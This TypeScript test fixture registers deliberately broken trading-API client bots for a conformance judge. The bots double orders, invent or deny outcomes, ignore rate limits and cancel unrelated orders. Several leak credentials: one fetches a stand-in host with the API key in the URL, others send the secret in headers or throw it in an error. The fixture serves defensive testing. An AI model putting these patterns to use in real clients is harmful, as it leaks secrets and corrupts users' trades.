import type { Caller, CallerWorld } from '../../../src/conformance/caller/judge-caller.js';
import type { CallerVerdict } from '../../../src/conformance/caller/problem.js';
import type { Intent, Word } from '../../../src/conformance/caller/intent.js';
import { ORDER } from '../../../src/conformance/caller/scenes.js';
import { ask, asCaller, createBot, type Failure, type Habits, OPEN_ORDERS } from './bot.js';

/** Sends another text in body or target. */
const writes = (part: 'body' | 'target', from: string | RegExp, to: (found: string) => string): Habits => ({
  shape: (request) => void (request[part] = request[part].replace(from, to)),
});
/** Sends these fields with other values; undefined leaves a field out. */
const withBody = (fields: Readonly<Record<string, unknown>>): Habits =>
  writes('body', /.+/, (body) => JSON.stringify({ ...JSON.parse(body), ...fields }));
/** Sends a header that is made from the secret, or from what it was. */
const withHeader = (name: string, make: (secret: string, own: string) => string): Habits => ({
  sent: ({ headers }, { credentials }) => void (headers[name] = make(credentials.apiSecret, headers[name] ?? '')),
});
const isLike = (failure: Failure, example: Failure): boolean =>
  Object.entries(example).every(([name, value]) => failure[name as keyof Failure] === value);
/** Sends once more after such a failure. */
const retries = (example: Failure): Habits => ({ tries: 2, retriesOn: (failure) => isLike(failure, example) });
/** Says this after such a failure, and "unknown" after another one. */
const says = (word: Word['outcome'], example: Failure = {}): Habits => ({
  lost: (failure) => (isLike(failure, example) ? word : 'unknown'),
});
const listed = async (world: CallerWorld) =>
  Object((await ask(world, OPEN_ORDERS)) ?? []) as readonly { orderId: string }[];
const asTable = (text: string): unknown => (text === '' ? {} : JSON.parse(text));
/** Does something else first. */
const first =
  (what: string, input: Intent['input']): Caller =>
  async (world, intent) => {
    await ask(world, { do: what, input });
    return createBot()(world, intent);
  };

/** The register: programs with one bad habit, the scene that shows it, and the verdict on it there. */
type Register = Readonly<
  Record<`${string} in ${string}/${string}: ${CallerVerdict}`, Program | readonly [Program, said: RegExp]>
>;

/** A program, or the one habit in which a bot differs from a right one. */
type Program = Caller | Habits;

const REGISTER: Register = {
  'retries-every-failure in lost-response/reset-after: doubled': { tries: 3 },
  'retries-503 in lost-response/503-after: doubled': retries({ status: 503 }),
  'retries-504-alone in lost-response/504-after: doubled': retries({ status: 504 }),
  'retries-timeouts in lost-response/no-response: doubled': retries({ status: undefined }),
  'retries-cut-bodies in lost-response/truncated-after: doubled': retries({ status: undefined }),
  'retries-endless-bodies in lost-response/stall-after: doubled': retries({ status: undefined }),
  'retries-html in lost-response/html-after: doubled': retries({ code: undefined }),
  'retries-empty in lost-response/empty-after: doubled': retries({ code: undefined }),
  'retries-code-1007 in lost-response/code-1007-after: doubled': retries({ code: '-1007' }),
  'retries-unknown-codes in lost-response/unknown-code: doubled': retries({ code: '-9999' }),
  'retries-under-a-new-name in lost-response/reset-after: doubled': { tries: 2, newName: true },
  'retries-after-backoff in lost-response/503-after: doubled': { tries: 3, pauseMs: 1500 },
  'retries-a-condition-order in condition-order/reset-after: doubled': { tries: 2 },
  'retries-a-condition-order-after-503 in condition-order/503-after: doubled': retries({ status: 503 }),
  'retries-500 in lost-response/500-after: doubled': retries({ status: 500 }),
  'retries-502 in lost-response/502-after: doubled': retries({ status: 502 }),
  'denies-408 in lost-response/408-after: denies': says('rejected', { status: 408 }),
  'takes-a-failed-lookup-for-absent in lost-response/lookup-503: denies': { absentAtOnce: true },
  'takes-a-rejected-lookup-for-absent in lost-response/lookup-refused: denies': { absentAtOnce: true },
  'looks-on-after-429 in lost-response/lookup-429: ignores-a-limit': { respectsLimits: false },
  'takes-a-failed-read-for-an-empty-list in read/status-503: denies': { reads: 'failures' },
  'takes-a-neighbour-for-its-own in not-taken/among-others: invents': async (world, intent) => {
    await ask(world, intent);
    return { outcome: 'accepted', orderId: (await listed(world))[0]!.orderId };
  },
  'cancels-one-order-of-a-contract in healthy/cancel-contract: invents': async (world, { input }) => {
    const [one] = await listed(world);
    await ask(world, { do: 'cancelOrder', input: { ...input, orderId: one!.orderId } });
    return { outcome: 'accepted' };
  },
  'cleans-up-before-it-orders in healthy/create-order: wipes': first('cancelAllOrders', {}),
  'orders-when-it-cancels in healthy/cancel-order: invents': first('createOrder', ORDER),
  'says-an-id-of-its-own in healthy/condition-order: invents': async (world, intent) => ({
    ...{ outcome: 'accepted', ...(await createBot()(world, intent)), orderId: '2006628908041292000' },
  }),
  'says-yes-and-sends-nothing in healthy/leverage: invents': async () => ({ outcome: 'accepted' }),
  'logs-its-key-elsewhere in secrets/redirect: leaks': async (world, intent) => {
    const { fetch, credentials } = world;
    await ask(world, intent);
    await fetch(`http://elsewhere.invalid/?key=${credentials.apiKey}`).catch(() => undefined);
    return { outcome: 'unknown' };
  },
  'sends-its-secret-in-base64 in healthy/create-order: leaks': withHeader('X-Auth', (secret) => btoa(`bots:${secret}`)),
  'denies-every-failure in lost-response/reset-after: denies': says('rejected'),
  'denies-timeouts in lost-response/no-response: denies': says('not-sent', { status: undefined }),
  'denies-504 in lost-response/504-after: denies': says('rejected', { status: 504 }),
  'denies-code-1006 in lost-response/code-1006-after: denies': says('rejected', { code: '-1006' }),
  'denies-unknown-codes in lost-response/unknown-code: denies': says('rejected', { code: '-9999' }),
  'denies-large-responses in lost-response/large-after: denies': says('rejected', { error: undefined }),
  'denies-cancels in cancel-order/reset-after: denies': says('rejected'),
  'denies-a-leverage-change in leverage/503-after: denies': says('rejected'),
  'denies-a-bulk-cancel in cancel-all/reset-after: denies': says('not-sent'),
  'takes-a-short-page-for-the-last in read/short-page: denies': { reads: 'until-short' },
  'looks-among-open-orders-alone in lost-response/short-list: denies': { looksInList: true },
  'doubles-a-condition-order-after-504 in condition-order/504-after: doubled': retries({ status: 504 }),
  'denies-a-cancel-after-an-empty-response in cancel-order/empty-after: denies': says('rejected'),
  'says-yes-to-a-rejected-leverage in leverage/refuse: invents': says('accepted'),
  'looks-once in lost-response/stale-lookups: denies': { absentAtOnce: true },
  'says-yes-to-an-empty-response in not-taken/status-421: invents': says('accepted'),
  'says-yes-to-html in not-taken/html: invents': says('accepted'),
  'says-yes-without-an-id in lost-response/no-order-id: invents': { withoutId: 'accepted' },
  'says-yes-after-503 in not-taken/status-503: invents': says('accepted'),
  'rounds-the-id-of-its-order in healthy/create-order: invents': { parse: asTable },
  'rounds-ids-of-a-list in read/open-orders: invents': { parse: asTable },
  'reads-one-page in read/history: denies': { reads: 'one-page' },
  'counts-records-twice in read/repeated-page: invents': { reads: 'everything' },
  'retries-429-at-once in rate-limit/429: ignores-a-limit': { tries: 2, respectsLimits: false },
  'ignores-retry-after in rate-limit/429-retry-after: ignores-a-limit': {
    tries: 2,
    pauseMs: 1200,
    respectsLimits: false,
  },
  'ignores-a-ban in rate-limit/418-retry-after: ignores-a-limit': { tries: 2, respectsLimits: false },
  'ignores-410 in rate-limit/410: ignores-a-limit': { tries: 2, respectsLimits: false },
  'looks-up-at-once in rate-limit/429-retry-after: ignores-a-limit': async (world, intent) => {
    const word = await createBot({ respectsLimits: false })(world, intent);
    await ask(world, OPEN_ORDERS);
    return word;
  },
  'signs-once in rate-limit/429-retry-after: breaks-the-contract': { tries: 2, signsOnce: true },
  'cancels-a-whole-contract in healthy/cancel-order: wipes': withBody({ orderId: undefined }),
  'cancels-with-an-empty-id in healthy/cancel-order: wipes': withBody({ orderId: '' }),
  'cancels-the-contract-for-an-order in cancel-order/status-503: wipes': {
    ...withBody({ orderId: undefined }),
    tries: 2,
  },
  'sells-for-buy in healthy/create-order: invents': withBody({ side: 'SELL' }),
  'orders-ten-times-as-much in healthy/create-order: invents': withBody({ volume: 10 }),
  'adds-ioc in healthy/create-order: invents': withBody({ timeInForce: 'IOC' }),
  'sets-another-leverage in healthy/leverage: invents': withBody({ nowLevel: 8 }),
  'cancels-everything in healthy/cancel-contract: wipes': (world, intent) =>
    createBot()(world, { ...intent, do: intent.do.startsWith('cancel') ? 'cancelAllOrders' : intent.do }),
  // Two runs that place an order each need a journal: a lookup after a lost response does not help them.
  'runs-twice in restart/two-at-once: doubled': [{ runsAlone: true }, /^one intent in two runs, 2 orders.* journal/],
  'follows-redirects in secrets/redirect: leaks': { redirect: 'follow' },
  'throws-its-secret in healthy/create-order: leaks': async ({ credentials }) => {
    throw Object.assign(new Error('failed'), { credentials });
  },
  'sends-its-secret in healthy/create-order: leaks': withHeader('X-CH-SECRET', (secret) => secret),
  'sends-prices-as-text in healthy/create-order: breaks-the-contract': withBody({ price: '60000.1' }),
  'sends-a-field-that-is-not-declared in healthy/create-order: breaks-the-contract': withBody({ recvWindow: 5000 }),
  'leaves-a-required-field-out in healthy/create-order: breaks-the-contract': withBody({ open: undefined }),
  'sends-another-word in healthy/create-order: breaks-the-contract': withBody({ timeInForce: 'GTC' }),
  'signs-in-seconds in healthy/create-order: breaks-the-contract': withHeader('X-CH-TS', (_, ms) => ms.slice(0, 10)),
  'signs-without-the-body in healthy/create-order: breaks-the-contract': withHeader('X-CH-SIGN', () => 'ab'.repeat(32)),
  'calls-another-path in healthy/create-order: breaks-the-contract': writes('target', '/order', () => '/orders'),
  'asks-for-too-large-pages in read/history: breaks-the-contract': writes('target', '=2', () => '=5000'),
  'cancels-a-rounded-id in healthy/cancel-order: breaks-the-contract': writes('body', /\d{16,}/, (id) => `${+id}`),
  'orders-at-a-price-that-is-refused in healthy/create-order: invents': [
    withBody({ price: 60000.1015625 }),
    /sent 60000.1015625/,
  ],
  'has-every-order-rejected in healthy/create-order: cannot-tell': [
    withBody({ clientOrderId: 'x'.repeat(36) }),
    /^says "absent", and nothing was in its way: the service rejected it with -2100, clientOrderId/,
  ],
  'cancels-another-order in healthy/cancel-order: invents': [
    withBody({ orderId: '200' }),
    /was asked for orderId 2\d+, and sent 200/,
  ],
  'drops-the-name in healthy/create-order: invents': [
    withBody({ clientOrderId: undefined }),
    /clientOrderId job-17-\w{8}, and sent none/,
  ],
  'cuts-the-name in healthy/create-order: invents': writes('body', /(?<=job-17-)\w+/, (stamp) => stamp.slice(0, 4)),
  'sends-a-bulk-cancel-twice in cancel-all/503-after: wipes': { tries: 2 },
  'cancels-a-contract-twice in cancel-contract/reset-after: wipes': { tries: 2 },
  'follows-redirects-of-reads in secrets/redirected-read: leaks': { redirect: 'follow' },
  'sends-half-of-its-secret in healthy/create-order: leaks': withHeader('X-Auth', (secret) => secret.slice(0, 20)),
  'reads-the-orders-of-all-contracts in read/open-orders: invents': [
    writes('target', /\?.*/, () => ''),
    /^says the id \d+, an order of E-\w+-USDT; asked for E-BTC-USDT Send contractName, as asked.$/,
  ],
};

/** The rows of the register. Text and advice of the verdict match `said`. */
export const BROKEN_CALLERS = Object.entries(REGISTER).map(([row, given]) => {
  const [, id, scene, verdict] = /^(\S+) in (\S+): (\S+)$/.exec(row)!;
  const [program, said = /^/] = [given].flat() as [Program, RegExp?];
  return [id!, scene!, verdict!, asCaller(program), said] as const;
});
